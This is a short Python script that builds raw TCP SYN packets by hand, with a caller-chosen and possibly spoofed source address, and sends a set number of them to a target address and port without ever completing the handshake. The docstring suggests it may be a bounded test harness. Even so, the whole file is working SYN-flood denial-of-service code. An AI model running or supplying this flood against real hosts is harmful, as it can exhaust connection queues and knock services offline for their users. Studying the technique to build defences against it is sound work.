#!/usr/bin/python3
"""syn_flood.py - send N SYNs to ADDR:PORT from random source ports of SRC,
never completing the handshake (the caller drops the RSTs its own kernel
would send for the SYN-ACKs).  Bounded: N packets, then exits.

  syn_flood.py SRC ADDR PORT N
"""
import random
import socket
import struct
import sys

src_s, dst_s, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
src, dst = socket.inet_aton(src_s), socket.inet_aton(dst_s)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rnd = random.Random(1)
mss = struct.pack("!BBH", 2, 4, 1460)
for i in range(n):
    sport = 20000 + (i % 40000)
    seq = rnd.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 65535, 0, 0) + mss
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    r.sendto(ip + tcp, (dst_s, 0))
print("sent %d SYNs" % n, flush=True)
